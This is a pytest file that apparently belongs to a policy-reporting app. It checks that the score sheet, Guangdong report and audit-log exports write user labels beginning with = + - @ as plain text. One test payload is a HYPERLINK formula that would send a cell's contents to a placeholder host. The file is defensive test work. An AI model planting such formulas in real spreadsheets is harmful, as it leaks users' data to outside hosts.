"""Spreadsheet formula injection: text an official typed (a label starting with = + - @) is written as text in
every export, never as a live formula: the public score sheet workbook, the Guangdong report (xlsx and csv)
and the audit log's CSV export."""
from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests"))
sys.path.insert(0, str(ROOT / "tests" / "admin"))

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"点此")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", EVIL]


def _formulas(wb, allowed=()) -> list[str]:
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" and c.value not in allowed]


def test_safe_cell_helpers():
    from policyhub.safe_cells import csv_cell

    for s in STARTS + ["\t=1", "\r=1"]:
        assert csv_cell(s) == "'" + s
    for harmless in ("广州", "a=b", "", 3, -4.5, None):
        assert csv_cell(harmless) == harmless


def test_score_sheet_workbook_writes_labels_as_text():
    from test_printing import small_sheet

    from policyhub.kinds.scoresheet.model import ScoreSheet
    from policyhub.kinds.scoresheet.printing import write_sheet_xlsx

    data = small_sheet().model_dump(mode="json", by_alias=True, exclude_defaults=True)
    data["label"] = {"zh": EVIL, "en": EVIL}
    data["groups"][0]["label"] = {"zh": "+1+1", "en": "+1+1"}
    data["groups"][0]["subgroups"][0]["label"] = {"zh": "@SUM(A1)", "en": "@SUM(A1)"}
    data["groups"][0]["subgroups"][0]["indicators"][0]["standard"] = {"zh": "-1+1", "en": "-1+1"}
    sheet = ScoreSheet.model_validate(data)
    wb = load_workbook(io.BytesIO(write_sheet_xlsx(sheet, lang="zh")))
    ws = wb.worksheets[0]
    assert _formulas(wb) == [f"{ws.title}!E{c.row}={c.value}" for c in ws["E"] if c.data_type == "f"]
    assert len(_formulas(wb)) == 1 and _formulas(wb)[0].endswith(")") and "SUM(E" in _formulas(wb)[0]
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert {EVIL, "@SUM(A1)", "-1+1"} <= texts                   # kept exactly, as text
    assert any(t.startswith("+1+1") for t in texts)


@pytest.fixture(scope="module")
def guangdong_result(tmp_path_factory):
    pytest.importorskip("policyhub_guangdong")
    from sqlalchemy import create_engine
    from sqlalchemy.orm import Session

    from policyhub.db.models import Base, JurisdictionRow, SchemeRow
    from policyhub_guangdong import importer, report

    engine = create_engine(f"sqlite:///{tmp_path_factory.mktemp('gd') / 'r.db'}")
    Base.metadata.create_all(engine)
    with Session(engine) as s:
        s.add(JurisdictionRow(code="440000", key="guangdong", name_zh="广东省", name_en="Guangdong", data={}))
        s.add(SchemeRow(key=importer.SCHEME, jurisdiction_code="440000", data={}))
        s.commit()
        data = copy.deepcopy(report.evaluate_registry(s, dt.date(2024, 12, 31)).to_json())
    for t, text in zip(data["sections"]["targets"]["targets"], STARTS):
        t["label"] = {"zh": text, "en": text}
    return data


def test_guangdong_report_xlsx_writes_labels_as_text(guangdong_result, tmp_path):
    from policyhub_guangdong import report

    wb = load_workbook(report.write_xlsx(guangdong_result, tmp_path / "r.xlsx", lang="zh"))
    assert _formulas(wb) == []
    labels = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert set(STARTS) <= labels


@pytest.mark.parametrize("cities", [False, True])
def test_guangdong_report_csv_neutralises_formulas(guangdong_result, tmp_path, cities):
    from policyhub_guangdong import report

    path = report.write_csv(guangdong_result, tmp_path / "r.csv", lang="zh", cities=cities)
    cells = [c for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + EVIL in cells


def test_audit_log_csv_export_neutralises_formulas(app, client):
    from admin_helpers import make_user, login

    from policyhub.db import db
    from policyhub.db.models import AuditLog

    make_user(app, "root", role="superuser", jurisdiction=None)
    with app.app_context():
        db.session.add(AuditLog(username="root", action="update", object_type="registry_entry", object_id=EVIL,
                                summary="+1+1"))
        db.session.commit()
    assert login(client, "root").status_code == 302
    r = client.get("/admin/audit/export/csv/")
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.get_data(as_text=True))) for c in row]
    assert "'" + EVIL in cells and "'+1+1" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
